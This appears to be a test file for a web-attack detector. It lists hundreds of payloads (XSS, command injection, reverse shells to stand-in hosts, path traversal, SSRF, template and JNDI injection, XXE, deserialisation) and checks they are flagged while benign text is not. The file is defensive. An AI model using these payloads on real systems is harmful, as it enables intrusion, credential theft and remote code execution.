// Attacks of every kind that the detectors of code, markup, commands and paths are for, at the default sensitivity, and what people send that looks like them.
import * as assert from "uvu/assert";
import { detectors } from "../../cli/detectors/index.ts";
import { type InputPlace, scoreFor } from "../../cli/detectors/types.ts";
import { detect, windowsOf } from "../../cli/evaluate/detect/index.ts";
import { suite } from "../support/suite.ts";

const test = suite("detect: attacks and what is none");

/** Values that an attacker sends, by what is attacked. */
const attacks: Record<string, readonly string[]> = {
  "markup and scripts": [
    `<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg/onload=confirm(document.domain)>`, `javascript:alert(1)`,
    `<iframe src="javascript:alert(1)">`, `<body onload=alert('XSS')>`, `<details open ontoggle=alert(1)>`, `'-alert(1)-'`, `</script><script>alert(1)</script>`,
    `<a href="jav&#x09;ascript:alert(1)">x</a>`, `<math><mi//xlink:href="data:x,<script>alert(4)</script>">`,
    `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<input autofocus onfocus=alert(1)>`, `<video><source onerror="javascript:alert(1)">`,
    `<marquee onstart=alert(1)>`, `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`, `<embed src=javascript:alert(1)>`,
    `{{constructor.constructor('alert(1)')()}}`, `<div style="width:expression(alert(1))">`, `%3Cscript%3Ealert(1)%3C%2Fscript%3E`,
    `&lt;script&gt;alert(1)&lt;/script&gt;`, `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
    `<img src="x" onerror="fetch('//evil.com/'+document.cookie)">`, `<script src=//evil.com/x.js></script>`, `"onmouseover="alert(1)`,
    `' autofocus onfocus='alert(1)`, `<svg><script href="data:,alert(1)"/>`, `<button onclick="alert(1)">x</button>`,
    `<form action="javascript:alert(1)"><input type=submit>`, `<isindex action=javascript:alert(1) type=image>`,
    `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<x onclick=alert(1)>click`, `<script>eval(atob('YWxlcnQoMSk='))</script>`,
    `<img src=x:alert(alt) onerror=eval(src) alt=0>`, `"><img src=x id=dmFyIGE9 onerror=eval(atob(this.id))>`, `<style>@import'//evil.com/x.css';</style>`,
    `<link rel=stylesheet href=javascript:alert(1)>`, `\${alert(1)}`, `<img src=1 href=1 onerror="javascript:alert(1)"></img>`, `";alert('XSS');//`,
    `\\";alert('XSS');//`, `<IMG SRC=\`javascript:alert("RSnake says, 'XSS'")\`>`, `<TABLE BACKGROUND="javascript:alert('XSS')">`,
    `<a onmouseover="alert(document.cookie)">xxs link</a>`, `<script>document.write('<img src=//e.com?'+document.cookie+'>')</script>`,
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<base href="javascript:/a/-alert(1)///////">`, `<script>throw onerror=alert,1</script>`,
    `Hello <b onpointerenter=prompt(1)>there</b> my friends`, `<svg/onload=&#97&#108&#101&#114&#116(1)>`,
    `<script\x0Ctype="text/javascript">javascript:alert(1);</script>`, `<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template>`,
    `<audio src=x onerror=alert(1)>`, `<keygen autofocus onfocus=alert(1)>`, `<iframe srcdoc="&lt;img src&equals;x onerror&equals;alert(1)&gt;"></iframe>`,
    `alert\`1\``, `<img/src='x'/onerror='top["al"+"ert"](1)'>`, `<svg onload=top[/al/.source+/ert/.source](1)>`, `window['alert'](1)`,
    `<form id=x></form><button form=x formaction=javascript:alert(1)>X`, `{{$on.constructor('alert(1)')()}}`,
    `<div v-html="''.constructor.constructor('alert(1)')()">`, `data:text/html,<script>alert(1)</script>`],
  
  "commands": [
    `; ls -la`, `| id`, `& whoami`, `&& cat /etc/passwd`, `|| ping -c 10 127.0.0.1`, "`id`", `$(whoami)`, `;sleep 10;`, `127.0.0.1; cat /etc/shadow`,
    `127.0.0.1 | nc -e /bin/sh 10.0.0.1 4444`, `%0aid`, `\ncat /etc/passwd`, `a;curl http://evil.com/x.sh|sh`, `;wget http://evil.com/shell.php`,
    `() { :;}; echo vulnerable`, `& dir`, `| type C:\\Windows\\win.ini`, `& net user`, `powershell -enc SQBFAFgA`, `cmd /c whoami`, `;{cat,/etc/passwd}`,
    `cat\${IFS}/etc/passwd`, `;c'a't /etc/p'a'sswd`, `w\\ho\\am\\i`, `/???/??t /???/p??s??`, `;ping -n 21 127.0.0.1||`, `$(sleep 5)`, "x`sleep 5`",
    `| nslookup abc.evil.com`, `;/bin/bash -i >& /dev/tcp/10.0.0.1/8080 0>&1`, `cat /etc/passwd`, `ls -la`, `whoami`, `ping -c 3 127.0.0.1`, `uname -a`, `ifconfig`,
    `netstat -an`, `id;`, `;id`, `|ls`, `ps aux`, `cat /etc/hosts | grep x`, `;echo 12345`, `test;reboot`, `'; exec('id')`, `nc -lvp 4444`,
    `python -c 'import socket,subprocess,os'`, `perl -e 'print 1'`, `$(curl evil.com)`, `& ping -n 10 127.0.0.1 &`, `; uname -a`, `;system('id')`, `;env`,
    `|cat<<<test`, `; tail /var/log/auth.log`, `ls /`, `dir C:\\`, `rm -rf /`, `chmod 777 /tmp/x`, `touch /tmp/pwned`, `find / -name x`, `;printenv`,
    `x|| sleep 5 #`, `";ls;"`, `'|id|'`, `&lt;!--#exec cmd="ls"--&gt;`, `;netstat -a;`, `a);id`, `a;id|`, `\`whoami\``, `;phpinfo();`, `| dir C:\\`, `&&dir`,
    `;ls%20-la`, `$;/usr/bin/id`, `;system('/usr/bin/id')`, `<!--#exec%20cmd="/bin/cat%20/etc/passwd"-->`, `%0Acat%20/etc/passwd`, `;id\\n`, `|/usr/bin/id|`,
    `;/usr/bin/id\\n`, `||/usr/bin/id|`, `a;/usr/bin/id;`, "`/usr/bin/id`", `() { :;}; /bin/bash -c "curl http://x/"`, `cat /etc/passwd;`, `; ipconfig /all`,
    `| ping -i 30 127.0.0.1 |`,  `() { :;}; ping -c 5 x`],
  
  "paths and files": [
    `../../../etc/passwd`, `..\\..\\..\\windows\\win.ini`, `....//....//etc/passwd`, `%2e%2e%2f%2e%2e%2fetc%2fpasswd`, `..%252f..%252fetc%252fpasswd`,
    `..%c0%af..%c0%afetc/passwd`, `/etc/passwd`, `C:\\boot.ini`, `/proc/self/environ`, `php://filter/convert.base64-encode/resource=index.php`,
    `file:///etc/passwd`, `/var/log/apache2/access.log`, `..;/manager/html`, `/etc/passwd%00.jpg`, `../../../../boot.ini`, `WEB-INF/web.xml`, `expect://id`,
    `data://text/plain;base64,PD9waHA=`, `http://evil.com/shell.txt`, `http://evil.com/shell.txt?`, `zip://a.jpg%23b.php`, `phar://a.phar/b`, `..%5c..%5cboot.ini`,
    `/../../../../etc/shadow`, `....\\\\....\\\\windows\\\\win.ini`, `%252e%252e%252fetc%252fpasswd`, `/./././././etc/passwd`, `..%u2215..%u2215etc/passwd`,
    `.htaccess`, `/WINDOWS/system32/drivers/etc/hosts`, `~/.ssh/id_rsa`, `/home/user/.bash_history`, `../wp-config.php`, `../config.php`, `..//..//..//etc/passwd`,
    `/usr/local/apache/conf/httpd.conf`, `%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd`, `https://evil.com/rfi.php?cmd=id`, `....//config`, `C:/inetpub/logs/LogFiles`,
    `/etc/mysql/my.cnf`, `../../`, `/root/.ssh/authorized_keys`, `/var/www/html/index.php`, `../index.php`, `/opt/tomcat/conf/tomcat-users.xml`, `..\\..\\`],
  
  "URLs to inner services": [
    `http://169.254.169.254/latest/meta-data/`, `http://127.0.0.1:22`, `http://localhost:8080/admin`, `http://0x7f000001/`, `http://2130706433/`,
    `http://0177.0.0.1/`, `http://[::1]/`, `http://[::ffff:127.0.0.1]/`, `gopher://127.0.0.1:6379/_x`, `dict://127.0.0.1:11211/`,
    `http://metadata.google.internal/computeMetadata/v1/`, `http://127.1/`, `http://10.0.0.1/`, `http://192.168.0.1/`, `http://127.0.0.1.nip.io/`,
    `http://localtest.me/`, `http://evil.com@127.0.0.1/`, `http://127.0.0.1#@evil.com/`, `http://①②⑦.⓪.⓪.①/`, `http://0/`, `http://0.0.0.0:80`, `ftp://127.0.0.1/`,
    `ldap://localhost:389/`, `file:///etc/passwd`, `http://instance-data/latest/`, `http://100.100.100.200/latest/meta-data/`, `http://172.16.0.1:9200/`,
    `https://user@169.254.169.254/`, `http://spoofed.burpcollaborator.net`, `http://internal.service.local/`, `http://kubernetes.default.svc/api`,
    `jar:http://127.0.0.1!/`, `http://127.127.127.127`, `http://[fd00:ec2::254]/latest/`, `http://metadata/`, `//127.0.0.1/`, `http:\\\\127.0.0.1\\`,
    `http://127.0.0.1:3306`, `netdoc:///etc/passwd`, `http://customer1.app.localhost.my.company.127.0.0.1.nip.io`, `http://router.local/`,
    `http://consul:8500/v1/agent/self`, `http://intranet/`],
  
  "templates": [
    `{{7*7}}`, `\${7*7}`, `<%= 7*7 %>`, `#{7*7}`, `{{config.items()}}`, `{{''.__class__.__mro__[2].__subclasses__()}}`, `{{request.application.__globals__}}`,
    `\${T(java.lang.Runtime).getRuntime().exec('id')}`, `<#assign ex="freemarker.template.utility.Execute"?new()> \${ ex("id") }`, `{php}echo \`id\`;{/php}`,
    `{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}`, `*{7*7}`, `@(1+2)`, `{{self}}`,
    `#set($x='')##$x.class.forName('java.lang.Runtime')`, `{{['id']|filter('system')}}`, `{{app.request.server.all|join(',')}}`, `\${{7*7}}`, `{{7*'7'}}`,
    `<%= system("whoami") %>`, `{{ cycler.__init__.__globals__.os.popen('id').read() }}`, `{{lipsum.__globals__["os"].popen("id").read()}}`,
    `{% for x in ().__class__.__base__.__subclasses__() %}`, `{{dump(app)}}`, `\${class.getResource("").getPath()}`, `{{#with "s" as |string|}}`,
    `\${self.module.cache.util.os.system("id")}`, `%{7*7}`, `[[\${7*7}]]`, `{{4*4}}[[5*5]]`, `{{ get_user_file("/etc/passwd") }}`, `{{7+7}}`,
    `\${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id").start()}`,
    `{{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}`, `{{3333*3333}}`, `\${product.getClass()}`],
  
  "look-ups and expressions": [
    `\${jndi:ldap://evil.com/a}`, `\${\${lower:j}ndi:ldap://x/a}`, `\${\${::-j}\${::-n}\${::-d}\${::-i}:rmi://x/a}`,
    `\${\${env:BARFOO:-j}ndi\${env:BARFOO:-:}\${env:BARFOO:-l}dap\${env:BARFOO:-:}//x/a}`, `%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D`,
    `\${jndi:\${lower:l}\${lower:d}a\${lower:p}://x}`, `\${j\${k8s:k5:-ND}i:ldap://x}`, `\${\${upper:j}ndi:dns://x}`,
    `\${jnd\${123%25ff:-\${123%25ff:-i:}}ldap://x}`, `\${\${what:ever:-j}ndi:ldap://x}`, `#{''.class.forName('java.lang.Runtime')}`,
    `%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}`, `class.module.classLoader.resources.context.parent.pipeline.first.pattern=x`, `\${sys:os.name}`,
    `\${applicationScope}`],
  
  "XML": [
    `<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % sp SYSTEM "http://x/ev.dtd">%sp;]>`,
    `<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>`,
    `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>`],
  
  "serialised objects": [
    `rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==`, `O:8:"Example":1:{s:3:"cmd";s:2:"id";}`, `cos\nsystem\n(S'id'\ntR.`, `AAEAAAD/////AQAAAAAAAAAMAgAAAF`,
    `{"rce":"_$$ND_FUNC$$_function (){require('child_process').exec('id')}()"}`, `!!python/object/apply:os.system ["id"]`,
    `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://x"}`, `gASVNgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU`, `BAhvOkBBY3RpdmVTdXBwb3J0`,
    `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}`, `a:2:{i:0;O:4:"Test":0:{}i:1;s:1:"x";}`],
  
  "code": [
    `phpinfo()`, `<?php system($_GET['cmd']); ?>`, `system('id')`, `eval(base64_decode('aWQ='))`, `require('child_process').execSync('id')`,
    `__import__('os').system('id')`, `process.mainModule.require('fs')`, `;phpinfo();`, `\${@phpinfo()}`, `exec("whoami")`, `os.system("id")`,
    `Runtime.getRuntime().exec("id")`, `eval('1+1')`, `res.end(require('fs').readdirSync('.').toString())`, `<?=\`id\`?>`, `{\${phpinfo()}}`, `assert($_POST[1])`,
    `\${print(123)}`, `eval("__import__('os').popen('id').read()")`, `'.system('id').'`, `1;phpinfo()`, `"+require('child_process').exec('id')+"`,
    `import os; os.system('id')`, `<cfexecute name="cmd">`, `while(1);`],
  
  "names, line ends and hidden requests": [
    `__proto__[admin]=true`, `constructor.prototype.isAdmin=true`, `{"__proto__":{"isAdmin":true}}`, `%0d%0aSet-Cookie:crlf=injection`,
    `foo%0d%0aLocation:%20http://evil.com`, `x%0d%0a%0d%0a<script>alert(1)</script>`, `a@b.c%0aBcc:x@y.z`, `0\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n\r\n`,
    `x\r\nX-Header: y`, `%E5%98%8A%E5%98%8DSet-Cookie:x=y`],
  
};

/** Values and texts that people send. */
const benign: readonly string[] = [
    "What is XSS and how do <script> tags work?", "How do I use the <b> tag in HTML?", "../images/logo is the relative path", "cat", "python", "curl", "wget",
    "How to use ls -la in Linux?", "What does `rm -rf /` do?", "Use `whoami` to see who you are", "Johnson & Johnson", "AT&T", "R&D; ops", "rock 'n' roll",
    "C++ & Java", "price > 100 && price < 200", "a < b and c > d", "if (a < b) { return c; }", "function add(a, b) { return a + b; }", "SELECT the best option",
    "{{name}}", "Hello {{ user.name }}, your order {{order.id}} shipped", "${HOME}/bin", "http://example.com/", "https://api.partner.io/hook?x=1",
    "user@example.com", "https://user:pass@example.com/", "10.0.0.1", "127.0.0.1", "localhost", "localhost:3000",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAA",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", "<p>Hello <b>world</b></p>",
    "<p style=\"color:red\">Hi</p>", "<a href=\"https://example.com\">link</a>", "# Install\n\n```\nnpm install\ncurl -O https://x.io/y.sh\nsh y.sh\n```",
    "The exec() function; the system (see below)", "print(\"Hello\")", "console.log is useful", "v1..v2", "/docs/v1..v2/diff", "5..10", "and so on...",
    "wait... what?", "| id | name |\n|----|------|\n| 1 | Bob |", "Tom; Dick; Harry", "find . love", "more & more", "top 10 | best of", "100% sure", "50%+ off",
    "x = y; y = z", "time: 10:00; date: today", "let's test; it's fun", "The file is at /etc/hosts", "Set PATH=/usr/bin:$PATH", "sort by price; then by name",
    "https://localhost.example.com/", "C:\\Users\\bob\\file.txt", "\\\\server\\share", "ping me when done", "id", "who", "test", "sleep 8 hours", "echo chamber",
    "Kill Bill", "Head & Shoulders", "cat & dog", "ls", "ssh key", "Java class java.util.List", "java", "javascript: the good parts", "on = off", "onset = now",
    "document the API", "alert (red)", "confirm (yes/no)", "Prompt (AI)", "#{tag}", "@{user}", "<3", "<-- look", "--> next", "a|b", "yes|no", "a||b", "x&y",
    "q=a&b=c", "file.tar.gz", "index.php", "report.php.pdf", "settings.json", "I'm at host; come by", "ip: 1.2.3.4; port: 80", "Dear Sir,\nFrom: Bob\nTo: Alice",
    "Subject: Hi", "GET /api/users HTTP/1.1", "Use GET /api/users to list", "O:8 is nothing", "a:1:{s:1:\"a\";i:1;}", "{\"a\":1,\"b\":[1,2,{\"c\":\"d\"}]}",
    "$5 (five dollars)", "$100", "costs $(5)", "SGVsbG8gV29ybGQgdGhpcyBpcyBhIHRlc3Q=", "=SUM(A1:B2)", "-- signed", "/* comment */", "// comment",
    "#!/bin/bash\necho hi\nls -la | grep x\n", "FROM node:18\nRUN npm install && npm run build\n", "<div class=\"x\" onclick=\"go()\">\n<p>x</p>\n</div>",
    "<!DOCTYPE html>\n<html><head><script src=\"https://cdn.x/jq.js\"></script></head><body onload=\"init()\"></body></html>",
    "https://example.com/?redirect=https://other.example/", "w3schools & co; id required", "type: more", "Less | more", "run; test; deploy", "git; npm; docker",
    "kids & cats | home", "ssh user@host", "docker run -it ubuntu bash", "git commit -m 'x'", "npm install --save express", "pip install requests",
];

const namesOf = (text: string, place: InputPlace): string[] =>
  windowsOf(Buffer.from(text, "utf8").toString("latin1")).flatMap((window) => detect(window, place, detectors)).filter(({ score }) => score >= scoreFor.medium).map(({ detector }) => detector);

for (const [kind, values] of Object.entries(attacks)) {
  test(`${kind} are found`, () => {
    for (const value of values) assert.ok(namesOf(value, "query").length > 0, JSON.stringify(value));
  });
}

test("names, prose, code and markup are not", () => {
  for (const text of benign) assert.equal(namesOf(text, "json"), [], JSON.stringify(text));
});

test("scenarios A6, A7 and A8", () => {
  for (const path of ["../../etc/passwd", "..%252f..%252fetc", "/..;/admin", "..%c0%af..%c0%afx", "..\\..\\x"]) assert.ok(namesOf(path, "path").includes("path-traversal"), path);
  assert.equal(namesOf("/docs/v1..v2/diff", "path"), []);
  for (const url of ["http://169.254.169.254/", "http://0x7f.1/", "http://[::ffff:10.0.0.1]/"]) assert.ok(namesOf(url, "json").includes("request-forgery"), url);
  assert.equal(namesOf("https://hooks.partner.example/orders?id=1", "json"), []);
  for (const place of ["header", "json-key", "cookie", "query"] as const) {
    for (const text of ["${jndi:ldap://x.example/a}", "${${lower:j}ndi:${lower:l}dap://x/a}", "Mozilla/5.0 ${${::-j}${::-n}di:rmi://x}"]) assert.ok(namesOf(text, place).includes("expression-injection"), `${place}: ${text}`);
  }
});

test("scenario D4: what a response should not tell", () => {
  for (const text of ["Server=db;Database=x;User Id=sa;Password=s3cret;", "-----BEGIN RSA PRIVATE KEY-----", "Traceback (most recent call last):\n  File \"/a.py\", line 1, in f"]) {
    assert.ok(namesOf(text, "response-body").includes("information-leak"), text);
    assert.not.ok(namesOf(text, "json").includes("information-leak"), "only responses are looked at");
  }
});

test.run();
